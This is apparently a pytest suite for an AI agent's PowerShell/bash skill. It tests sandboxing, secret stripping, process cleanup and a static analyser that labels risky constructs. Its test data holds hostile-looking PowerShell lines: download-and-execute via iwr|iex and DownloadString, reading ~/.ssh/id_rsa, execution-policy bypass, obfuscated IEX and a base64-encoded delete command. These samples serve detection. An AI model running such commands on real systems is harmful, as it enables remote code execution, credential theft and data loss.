"""powershell as its users meet it: one form of result, nothing left behind, and a report that says what a script does without running it.

A stub plays PowerShell: a program on PATH that reads the files the skill makes. Where a real PowerShell is installed it is run as well.
"""
from __future__ import annotations

import base64
import importlib.util
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from core.skills import SkillRegistry

Stub = Callable[..., dict[str, Any]]
FOLDER = Path(__file__).resolve().parents[2] / "skills" / "powershell"
posix_only = pytest.mark.skipif(os.name != "posix", reason="the stub is a POSIX script")
REAL = next((found for found in map(shutil.which, ("pwsh", "powershell")) if found), None)

# Plays pwsh: `-File run.ps1 -AgentScript S -AgentReport R`. Each line of S is a word and a text; the report is written as run.ps1 writes it.
STUB = """#!{python}
import json, os, subprocess, sys, time
words = sys.argv[1:]
script, report = words[words.index("-AgentScript") + 1], words[words.index("-AgentReport") + 1]
code, objects, data = 0, [], open(script, "rb").read()
def line(**value):
    with open(report, "a", encoding="utf-8") as file:
        file.write(json.dumps(value) + "\\n")
for number, text in enumerate(data.decode("utf-8-sig").splitlines(), 1):
    word, _, rest = text.partition(" ")
    if word == "out":
        sys.stdout.buffer.write(rest.encode() + b"\\r\\n"); objects.append(rest)
    elif word == "arguments": print(json.dumps(words), flush=True)
    elif word == "environment": print(json.dumps(dict(os.environ)), flush=True)
    elif word == "script": print(json.dumps([script, data[:3].hex(), os.getcwd(), os.path.exists(words[words.index("-File") + 1])]), flush=True)
    elif word == "error": line(error={{"message": rest, "line": number, "column": 1, "category": "ObjectNotFound", "source": text}})
    elif word == "warning": line(warning=rest)
    elif word == "escape": subprocess.Popen(["sleep", rest], start_new_session=True)
    elif word == "sleep": sys.stdout.flush(); time.sleep(float(rest))
    elif word == "crash": os._exit(int(rest))
    elif word == "exit": code = int(rest); break
line(exit_code=code, objects_total=len(objects), edition="Core", version="7.4.0", objects=objects)
sys.exit(code)
"""


def call(*words: str, stdin: bytes = b"", path: str | None = None, **environ: str) -> subprocess.CompletedProcess[str]:
    clean = {name: value for name, value in os.environ.items() if name not in ("LC_ALL", "LC_MESSAGES", "LANG", "AGENT_WORKSPACE")}
    env = {**clean, "AGENT_LANG": "en", "PATH": path or os.environ["PATH"], **environ}
    done = subprocess.run([sys.executable, str(FOLDER / "main.py"), *words], input=stdin, capture_output=True, env=env, timeout=60)
    return subprocess.CompletedProcess(words, done.returncode, done.stdout.decode(), done.stderr.decode())


def loaded(*words: str, status: int = 0, **options: Any) -> dict[str, Any]:
    done = call(*words, "--json", **options)
    assert done.returncode == status, done.stdout + done.stderr
    value: dict[str, Any] = json.loads(done.stdout)
    return value


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    folder = tmp_path / "work space"
    folder.mkdir()
    return folder


@pytest.fixture
def stub(tmp_path: Path, workspace: Path) -> Stub:
    """Calls the skill with the stub on PATH; the stub's name can be chosen."""
    def run(*words: str, name: str = "pwsh", status: int = 0, **options: Any) -> dict[str, Any]:
        folder = tmp_path / "programs" / name
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(STUB.format(python=sys.executable), encoding="utf-8")
        (folder / name).chmod(0o755)
        return loaded(*words, status=status, path=f"{folder}{os.pathsep}/usr/bin{os.pathsep}/bin",
                      **{"AGENT_WORKSPACE": str(workspace), "AGENT_SANDBOX": "full", **options})
    return run


def sleepers(seconds: str) -> list[str]:
    """Processes `sleep SECONDS` that are alive."""
    found = []
    for file in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if file.read_bytes() == f"sleep\0{seconds}\0".encode():
                found.append(file.parent.name)
        except OSError:
            continue
    return found


# --- run ---

@posix_only
def test_the_result_holds_output_objects_warnings_and_exit_code(stub: Stub) -> None:
    result = stub("run", "--command", "out grüße 你好\nwarning careful\nout two")
    assert (result["ok"], result["exit_code"], result["stdout"]) == (True, 0, "grüße 你好\ntwo\n")
    assert (result["objects"], result["objects_total"], result["warnings"]) == (["grüße 你好", "two"], 2, ["careful"])
    assert (result["shell"], result["version"], result["confined"]) == ("powershell", "7.4.0", "full")


@posix_only
def test_an_error_has_message_line_and_category_and_fails_the_run(stub: Stub) -> None:
    result = stub("run", "--command", "out one\nerror no such thing", status=1)
    assert (result["ok"], result["code"], result["exit_code"]) == (False, "script_failed", 0)
    assert [(error["message"], error["line"], error["category"]) for error in result["errors"]] == [("no such thing", 2, "ObjectNotFound")]


@posix_only
def test_the_exit_code_of_the_script_is_told_and_the_skill_ends_with_one(stub: Stub) -> None:
    assert stub("run", "--command", "exit 7", status=1)["exit_code"] == 7
    crashed = stub("run", "--command", "crash 9", status=1)
    assert (crashed["exit_code"], crashed["code"]) == (9, "script_failed")
    assert "before it could report" in crashed["error"]


@posix_only
def test_powershell_is_started_without_profile_and_questions(stub: Stub) -> None:
    words = json.loads(stub("run", "--command", "arguments", "--depth", "5")["stdout"])
    assert {"-NoProfile", "-NonInteractive", "-File"} <= set(words) and words[words.index("-AgentDepth") + 1] == "5"
    wrapper = (FOLDER / "run.ps1").read_bytes()
    assert wrapper.isascii() and b"$ProgressPreference = 'SilentlyContinue'" in wrapper


@posix_only
def test_a_script_from_the_command_line_is_a_file_with_a_byte_order_mark_that_goes_away(stub: Stub, workspace: Path) -> None:
    script, mark, folder, wrapper_was_there = json.loads(stub("run", "--command", "script")["stdout"])
    assert (mark, folder, wrapper_was_there) == ("efbbbf", str(workspace), True)
    assert not Path(script).exists() and list(workspace.iterdir()) == []


@posix_only
def test_windows_powershell_gets_a_marked_copy_of_a_file_beside_it_and_pwsh_the_file_itself(stub: Stub, workspace: Path) -> None:
    file = workspace / "ü.ps1"
    file.write_text("script\nout é", encoding="utf-8")
    script, mark = json.loads(stub("run", "--file", "ü.ps1", name="powershell")["stdout"].splitlines()[0])[:2]
    assert (mark, Path(script).parent, Path(script) != file, Path(script).exists()) == ("efbbbf", workspace, True, False)
    assert json.loads(stub("run", "--file", "ü.ps1")["stdout"].splitlines()[0])[0] == str(file)
    assert list(workspace.iterdir()) == [file]


@posix_only
def test_a_script_may_come_from_standard_input_and_begin_with_a_minus_sign(stub: Stub) -> None:
    assert stub("run", "-", stdin="\ufeffout ä".encode())["stdout"] == "ä\n"
    assert stub("run", "--command", "-join 1\nout x")["stdout"] == "x\n"


@posix_only
def test_keys_and_passwords_are_not_passed_on(stub: Stub) -> None:
    seen = json.loads(stub("run", "--command", "environment", API_KEY="k", GITHUB_TOKEN="t", DB_PASSWORD="p", MONKEY="m")["stdout"])
    assert not {"API_KEY", "GITHUB_TOKEN", "DB_PASSWORD"} & set(seen) and seen["MONKEY"] == "m"


@posix_only
@pytest.mark.skipif(not Path("/proc/self").is_dir(), reason="looks for processes in /proc")
def test_the_time_limit_ends_what_left_the_process_group_and_keeps_what_was_said(stub: Stub) -> None:
    result = stub("run", "--command", "out before\nerror early\nescape 4711\nsleep 60", "--timeout", "3", status=1)
    assert (result["code"], result["timed_out"], result["exit_code"], result["stdout"]) == ("timeout", True, None, "before\n")
    assert result["errors"][0]["message"] == "early"
    assert sleepers("4711") == []


@posix_only
def test_text_for_a_person_is_the_output_alone_and_the_rest_goes_to_stderr(stub: Stub, tmp_path: Path, workspace: Path) -> None:
    stub("run", "--command", "out x")
    path = f"{tmp_path}/programs/pwsh:/usr/bin:/bin"
    done = call("run", "--command", "out x\nerror gone", path=path, AGENT_WORKSPACE=str(workspace), AGENT_LANG="zh")
    assert (done.returncode, done.stdout) == (1, "x\n")
    assert "错误，第 2 行，ObjectNotFound：gone" in done.stderr


@posix_only
@pytest.mark.skipif(REAL is not None, reason="PowerShell is installed")
def test_without_powershell_it_says_how_to_install_it_and_ends_with_three(workspace: Path) -> None:
    result = loaded("run", "--command", "1", status=3, path="/usr/bin:/bin", AGENT_WORKSPACE=str(workspace))
    assert result["code"] == "no_powershell" and "nstall it with" in result["error"] and "main.py shell" in result["error"]


@posix_only
@pytest.mark.skipif(REAL is not None, reason="PowerShell is installed")
def test_a_program_in_the_workspace_does_not_pass_for_powershell(workspace: Path) -> None:
    (workspace / "pwsh").write_text("#!/bin/sh\ntouch taken\n", encoding="utf-8")
    (workspace / "pwsh").chmod(0o755)
    for path in (str(workspace), "."):
        assert loaded("run", "--command", "1", status=3, path=f"{path}:/usr/bin:/bin", AGENT_WORKSPACE=str(workspace))["code"] == "no_powershell"
    assert not (workspace / "taken").exists()


@pytest.mark.parametrize("words", [
    ["run"], ["run", "--command", " "], ["run", "--command", "1", "--file", "x"], ["run", "--command", "1", "--timeout", "0"],
    ["shell", "--command", "x" * 100_001],
    ["run", "--command", "1", "--depth", "99"], ["shell", "--command", "1", "--cwd", "nowhere"], ["nonsense"], [],
], ids=lambda words: " ".join(words)[:40] or "nothing")
def test_wrong_usage_ends_with_two_and_one_sentence(words: list[str], workspace: Path) -> None:
    assert loaded(*words, status=2, AGENT_WORKSPACE=str(workspace))["code"] == "usage"


def test_a_file_that_is_missing_or_no_text_is_named(workspace: Path) -> None:
    (workspace / "b.ps1").write_bytes(b"\xff\xfe\x00")
    for words in (["check", "b.ps1"], ["check", "none.ps1"], ["shell", "--file", "none.sh"]):
        result = loaded(*words, status=1, AGENT_WORKSPACE=str(workspace))
        assert result["code"] == "unreadable" and words[-1] in result["error"]


# --- shell ---

@posix_only
def test_bash_gives_the_same_form_of_result(stub: Stub) -> None:
    powershell = stub("run", "--command", "out hello")
    bash = stub("shell", "--command", "echo hello")
    assert bash["stdout"] == "hello\n" and set(bash) <= set(powershell)
    assert set(powershell) - set(bash) == {"version", "edition", "objects", "objects_total"}


@posix_only
def test_a_failing_line_of_bash_is_named(workspace: Path) -> None:
    result = loaded("shell", "--command", "echo a\nnonsuch-program\nexit 4", status=1, AGENT_WORKSPACE=str(workspace), AGENT_SANDBOX="full")
    assert (result["exit_code"], result["stdout"]) == (4, "a\n")
    assert [(error["line"], error["target"], error["message"]) for error in result["errors"]] == [(2, "nonsuch-program", "command not found")]


@posix_only
def test_long_output_keeps_its_beginning_and_end_and_endless_output_ends_the_run(workspace: Path) -> None:
    long = loaded("shell", "--command", "echo first; head -c 500000 /dev/zero | tr '\\0' x; echo; echo last", AGENT_WORKSPACE=str(workspace))
    assert long["stdout"].startswith("first\n") and long["stdout"].endswith("x\nlast\n")
    assert long["left_out"]["stdout"] == 500012 - 200_000 and len(long["stdout"]) < 201_000
    endless = loaded("shell", "--command", "yes", status=1, AGENT_WORKSPACE=str(workspace))
    assert endless["code"] == "output_limit"


@posix_only
@pytest.mark.skipif(not Path("/proc/self").is_dir(), reason="looks for processes in /proc")
def test_nothing_is_left_after_the_end_or_after_a_signal(workspace: Path) -> None:
    assert loaded("shell", "--command", "(setsid sleep 4712 &); sleep 4712 & echo on", AGENT_WORKSPACE=str(workspace))["stdout"] == "on\n"
    assert sleepers("4712") == []
    process = subprocess.Popen([sys.executable, str(FOLDER / "main.py"), "shell", "--command", "(setsid sleep 4713 &); sleep 4713"],
                               env={**os.environ, "AGENT_WORKSPACE": str(workspace)}, stderr=subprocess.DEVNULL)
    while process.poll() is None and len(sleepers("4713")) < 2:
        time.sleep(0.05)
    process.send_signal(signal.SIGTERM)
    assert process.wait(20) == 130
    assert sleepers("4713") == []


# --- what confines it ---

RUNNER = """import os, sys
open(os.environ['SEEN'], 'w').write(repr([sys.flags.isolated, sys.flags.no_site, *sys.argv[1:3]]))
os.execvp(sys.argv[3], sys.argv[3:])
"""


@posix_only
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the launcher confines on Linux only")
def test_by_hand_it_goes_through_the_launcher_and_inside_the_sandbox_it_does_not(workspace: Path, tmp_path: Path) -> None:
    runner, seen = tmp_path / "runner.py", tmp_path / "seen"
    runner.write_text(RUNNER, encoding="utf-8")
    (workspace / "sub").mkdir()
    environ = {"AGENT_GUARD_RUNNER": str(runner), "SEEN": str(seen), "AGENT_WORKSPACE": str(workspace)}
    inside = loaded("shell", "--command", "pwd", AGENT_SANDBOX="landlock", **environ)
    assert (inside["confined"], seen.exists()) == ("landlock", False)
    by_hand = loaded("shell", "--command", "pwd; echo $TERM", "--cwd", "sub", **environ)
    assert (by_hand["confined"], by_hand["stdout"]) == ("runner", f"{workspace}/sub\ndumb\n")
    assert seen.read_text(encoding="utf-8") == repr([1, 1, f"workspace:{workspace}", "--"])


@posix_only
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the launcher confines on Linux only")
def test_it_never_runs_bare_when_the_launcher_fails(workspace: Path, tmp_path: Path) -> None:
    refusing = tmp_path / "refusing.py"
    refusing.write_text("import sys\nsys.stderr.write('guard_runner: not started: userns\\n')\nsys.exit(125)\n", encoding="utf-8")
    for runner in (refusing, tmp_path / "missing.py"):
        result = loaded("shell", "--command", "touch ran", status=3, AGENT_GUARD_RUNNER=str(runner), AGENT_WORKSPACE=str(workspace))
        assert result["code"] == "not_confined"
    assert not (workspace / "ran").exists()


@posix_only
def test_it_says_so_when_nothing_confines_it(workspace: Path) -> None:
    for environ in ({}, {"AGENT_SANDBOX": "none"}):
        done = call("shell", "--command", "echo hi", AGENT_WORKSPACE=str(workspace), **environ)
        assert done.stdout == "hi\n" and "nothing confines" in done.stderr
    assert "nothing confines" not in call("shell", "--command", "echo hi", AGENT_WORKSPACE=str(workspace), AGENT_SANDBOX="full").stderr


# --- check ---

KINDS = [
    ("rm -r C:\\x", {"delete"}), ("REMOVE-ITEM 'a'", {"delete"}), ("r`i x", {"delete"}),
    ("Microsoft.PowerShell.Management\\Remove-Item x", {"delete"}), ("iwr https://e.com/a | iex", {"network", "execute"}),
    ("irm http://e.com -OutFile a.exe", {"download"}), ("sp HKCU:\\Software\\X n 1", {"registry"}), ("Start-Process notepad", {"process"}),
    ("& ('I'+'EX') 'x'", {"execute"}), ("IEX(New-Object Net.WebClient).DownloadString('http://e.com')", {"execute", "network"}),
    ("[IO.File]::Delete('a')", {"delete"}), ("[System.IO.File]::WriteAllText('a', 'b')", {"write"}),
    ("$x = [Convert]::FromBase64String($y)", {"encoded"}), ("$f.Delete()", {"delete"}), ("$env:PATH = 'x'", {"environment"}),
    ("Stop-Computer", {"system"}), ("Get-Content ~/.ssh/id_rsa", {"secret"}), ("Get-Date > out.txt", {"write", "text"}),
    ("if ($a) { del x } else { gc y }", {"delete", "read"}), ("foreach ($f in gci) { $f.Name }", {"read"}),
    ("$h = @{ Remove = 'x'; Value = gci }", {"read"}), ("Write-Host 'rm -r x'", {"text"}), ("'del x' # del y", set()),
    ("function del2 { ri x }; del2", {"delete", "local"}), ('"a $(ri b)"', {"delete"}), ("@'\n$(ri b)\n'@", set()),
    ("New-Object -ComObject WScript.Shell", {"execute"}), ("reg add HKLM\\X", {"registry"}),
    ("switch ($x) { abc { ri d } default { 1 } }", {"delete"}), ("class A { [void] Run() { ri x } }", {"delete"}), (". ./other.ps1", {"execute"}),
    ("git status", {"process"}), ("Frobnicate-Widget x", {"unknown"}), ("$x = 'a", {"syntax"}), ("if ($a) {", {"syntax"}),
    ("iex 'del x'", {"execute", "delete"}), ("powershell -ep Bypass -c \"ri x\"", {"execute", "delete"}),
    ("gci | % { $_.Delete() }", {"read", "text", "delete"}), ("echo $env:API_KEY", {"text", "secret"}),
]


@pytest.fixture
def report(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    """The module report of the skill; the skill's modules are forgotten afterwards."""
    before = set(sys.modules)
    monkeypatch.syspath_prepend(str(FOLDER))
    import report  # type: ignore[import-not-found]
    yield report
    for name in [name for name in set(sys.modules) - before if str(FOLDER) in str(getattr(sys.modules[name], "__file__", ""))]:
        del sys.modules[name]


@pytest.mark.parametrize("reader", ["tokenizer", "grammar"])
def test_the_report_names_what_each_construct_does(report: Any, reader: str, monkeypatch: pytest.MonkeyPatch) -> None:
    if reader == "tokenizer":
        monkeypatch.setattr(report.grammar, "read", lambda text: None)
    elif importlib.util.find_spec("tree_sitter_powershell") is None:
        pytest.skip("tree-sitter-powershell is not installed")
    wrong = [(text, found) for text, expected in KINDS if (found := set(report.examine(text)["counts"])) != expected]
    assert wrong == []


def test_the_report_reads_what_an_encoded_command_hides(report: Any) -> None:
    hidden = base64.b64encode("rm -r C:\\data".encode("utf-16-le")).decode()
    for spelling in ("-EncodedCommand", "-enc", "-e", "\u2013ec", "/enc"):
        found = report.examine(f"powershell.exe {spelling} {hidden}")
        assert {"encoded", "delete"} <= set(found["counts"]) and found["paths"] == ["C:\\data"]


def test_the_report_lists_paths_addresses_registry_and_resolved_names(report: Any) -> None:
    found = report.examine("gc .\\in.txt | sc C:\\out.txt\nirm 'https://e.com/x'\ngp HKLM:\\Software\\A\n$env:TEMP\nImport-Module Az")
    assert (found["paths"], found["urls"], found["registry"]) == ([".\\in.txt", "C:\\out.txt"], ["https://e.com/x"], ["HKLM:\\Software\\A"])
    assert (found["environment"], found["modules"], found["permission"]) == (["TEMP"], ["Az"], False)
    assert [(row["line"], row["what"]) for row in found["constructs"][:2]] == [(1, "get-content"), (1, "set-content")]


def test_no_text_makes_the_report_fail(report: Any) -> None:
    chance = random.Random(3)
    parts = [text for text, _ in KINDS]
    for _ in range(1500):
        text = list("\n".join(chance.sample(parts, 3)))
        for _ in range(chance.randint(1, 6)):
            text[chance.randrange(len(text))] = chance.choice("(){}[]'\"$@`|;&<>#\n\0- ")
        assert report.examine("".join(text))["lines"] >= 1
    hostiles = ("\"$(" * 5000, "(" * 5000, "{" * 5000, "@{" * 3000, "'" * 5001, "@\"\n" * 3000, "<#" * 3000, "[" * 5000, "iex " * 3000, "| " * 5000)
    for hostile in hostiles:
        assert report.examine(hostile)["constructs_total"] >= 0


def test_check_reports_as_text_and_as_data_in_both_languages_and_runs_nothing(workspace: Path) -> None:
    (workspace / "a.ps1").write_text("Remove-Item x\nNew-Item made.txt\n", encoding="utf-8")
    text = call("check", "a.ps1", AGENT_WORKSPACE=str(workspace))
    assert text.returncode == 0 and "line   1  DELETES  Remove-Item x" in text.stdout and "not a permission" in text.stdout
    chinese = call("check", "-", stdin=b"Remove-Item x", AGENT_LANG="zh").stdout
    assert "删除  Remove-Item x" in chinese
    data = json.loads(call("check", "--json", "--", "a.ps1", AGENT_WORKSPACE=str(workspace)).stdout)
    assert data["ok"] and data["counts"] == {"delete": 1, "write": 1} and data["message"] == text.stdout.strip()
    assert [file.name for file in workspace.iterdir()] == ["a.ps1"]


# --- the folder ---

def test_the_manual_shows_what_check_really_prints(workspace: Path) -> None:
    manual = (FOLDER / "SKILL.md").read_text(encoding="utf-8")
    shown = [line[4:] for line in manual.splitlines() if line.startswith("    ")]
    done = call("check", "--command", "iwr https://example.com/a.ps1 | iex", AGENT_WORKSPACE=str(workspace))
    assert 'python main.py check --command "iwr https://example.com/a.ps1 | iex"' in manual and done.stdout.splitlines() == shown


def test_the_declared_commands_ask_before_running_and_check_only_reads() -> None:
    registry = SkillRegistry(FOLDER.parent)
    registry.scan()
    skill = registry.get("powershell")
    assert {spec.name: spec.effect for spec in skill.commands} == {"run": "destructive", "shell": "destructive", "check": "read"}
    assert [spec.name for spec in skill.commands if spec.say] == ["check"] and len(skill.description) < 150
    call_ = registry.match_command("python main.py check clean.ps1 --json", FOLDER)
    assert call_ is not None and call_.spec.name == "check"


def test_the_help_needs_nothing_and_names_every_command() -> None:
    done = call("--help")
    assert done.returncode == 0 and all(word in done.stdout for word in ("run", "shell", "check"))
    assert all(call(name, "--help").returncode == 0 for name in ("run", "shell", "check"))


# --- a real PowerShell ---

@pytest.mark.skipif(REAL is None, reason="no PowerShell is installed here; only the stub was seen")
def test_real_powershell_reports_objects_errors_syntax_and_exit_codes(workspace: Path) -> None:
    def run(text: str, status: int = 0) -> dict[str, Any]:
        return loaded("run", "--command", text, status=status, AGENT_WORKSPACE=str(workspace), AGENT_SANDBOX="full")

    good = run("Write-Progress x; 'grüße 你好'; [pscustomobject]@{ a = 1; b = @(2, 3) }; Write-Warning careful")
    assert good["objects"] == ["grüße 你好", {"a": 1, "b": [2, 3]}] and good["stdout"].startswith("grüße 你好\n") and good["warnings"] == ["careful"]
    failed = run("'a'\nGet-Item nowhere-at-all\n'b'", status=1)
    assert failed["stdout"] == "a\nb\n" and (failed["errors"][0]["line"], failed["errors"][0]["category"]) == (2, "ObjectNotFound")
    assert run("'a'\nthrow 'bad'", status=1)["errors"][0]["line"] == 2
    assert run("exit 7", status=1)["exit_code"] == 7
    assert run("if (", status=1)["errors"][0]["category"] == "ParserError"
